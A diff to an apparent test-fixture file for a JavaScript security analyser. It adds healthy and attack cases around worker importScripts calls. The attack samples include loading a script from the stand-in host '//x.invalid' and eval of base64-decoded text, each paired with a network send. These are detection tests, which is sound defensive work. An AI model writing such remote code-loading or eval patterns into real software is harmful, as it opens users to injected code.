@@ -118,6 +118,10 @@ HEALTHY = {
     "a test of syntax": [
         use("global:Function", "code", "a.js:3:1:Function('import(\"\")')"), use(*SEND, "a.js:9"),
     ],
+    "a worker that loads a file of its own": [
+        use("global:importScripts", "code", 'a.js:3:1:importScripts("compat.js", "./b.js");'),
+        use(*SEND, "a.js:9"),
+    ],
     "tokens that are counted": [use(*env("LOG_TOKENS")), use(*env("MAX_OUTPUT_TOKENS")), use(*SEND)],
     "a constant beside the methods of a connection": [
         use("write:WebSocket.prototype.CLOSED", "primordials", "a.js:9"),
@@ -185,6 +189,12 @@ ATTACKS = {
     ],
     "code that has a word for code made": [
         use("global:eval", "code", "a.js:4:1:eval(\"g(atob('eA=='))\")"), use(*SEND, "a.js:9"),
+    ],
+    "a worker that loads what it is told": [
+        use("global:importScripts", "code", "a.js:4:1:importScripts(name)"), use(*SEND, "a.js:9"),
+    ],
+    "a worker that loads from a host": [
+        use("global:importScripts", "code", 'a.js:4:1:importScripts("//x.invalid/a.js")'), use(*SEND, "a.js:9"),
     ],
     "code that makes more code": [
         use("global:eval", "code", "a.js:4:1:eval('f(\\'Function\\')')"), use(*SEND, "a.js:9"),
